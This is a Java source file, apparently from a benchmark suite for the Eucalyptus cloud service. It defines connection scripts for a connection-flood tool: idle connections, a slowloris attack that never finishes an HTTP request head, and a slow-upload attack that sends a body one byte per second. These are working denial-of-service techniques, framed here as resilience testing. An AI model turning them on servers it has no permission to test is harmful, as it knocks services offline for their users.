package org.eucalyptus.bench;

import java.nio.charset.StandardCharsets;
import java.util.Map;

/** What each connection of a {@link ConnectionFlood} sends: some bytes at once, then a byte a second. */
interface AttackScript {
  /** Written as soon as connection {@code conn} is open (may be empty). */
  byte[] opening(int conn);

  /** The {@code index}th byte dribbled on connection {@code conn}, one a second, or -1 to send no more. */
  int dribble(int conn, long index);

  /** Whether connections send anything after their opening (if not, the attack need not look at them). */
  default boolean dribbles() {
    return true;
  }

  /** Connections that open and then send nothing. */
  static AttackScript idle() {
    return new AttackScript() {
      @Override
      public byte[] opening(int conn) {
        return new byte[0];
      }

      @Override
      public int dribble(int conn, long index) {
        return -1;
      }

      @Override
      public boolean dribbles() {
        return false;
      }
    };
  }

  /**
   * A request head that never ends, a byte at a time (slowloris): a request line, then one made-up
   * header line after another.
   */
  static AttackScript slowloris(String hostPort) {
    byte[] start = ("GET /services/Eucalyptus?Action=DescribeInstances HTTP/1.1\r\nHost: " + hostPort + "\r\n")
        .getBytes(StandardCharsets.US_ASCII);
    byte[] filler = "X-Dribble: z\r\n".getBytes(StandardCharsets.US_ASCII);
    return new AttackScript() {
      @Override
      public byte[] opening(int conn) {
        return new byte[0];
      }

      @Override
      public int dribble(int conn, long index) {
        return index < start.length ? start[(int) index] : filler[(int) ((index - start.length) % filler.length)];
      }
    };
  }

  /**
   * A whole, signed request head declaring a {@code length}-byte body, then the body a byte at a
   * time (a slow upload). {@code heads} gives each connection's head (its own object key).
   */
  static AttackScript slowUpload(java.util.function.IntFunction<String> heads, long length) {
    return new AttackScript() {
      @Override
      public byte[] opening(int conn) {
        return heads.apply(conn).getBytes(StandardCharsets.US_ASCII);
      }

      @Override
      public int dribble(int conn, long index) {
        return index < length ? 'x' : -1;
      }
    };
  }

  /** A request head: request line, {@code headers} in order, blank line. */
  static String head(String method, String target, Map<String, String> headers) {
    StringBuilder b = new StringBuilder(method).append(' ').append(target).append(" HTTP/1.1\r\n");
    headers.forEach((k, v) -> b.append(k).append(": ").append(v).append("\r\n"));
    return b.append("\r\n").toString();
  }
}
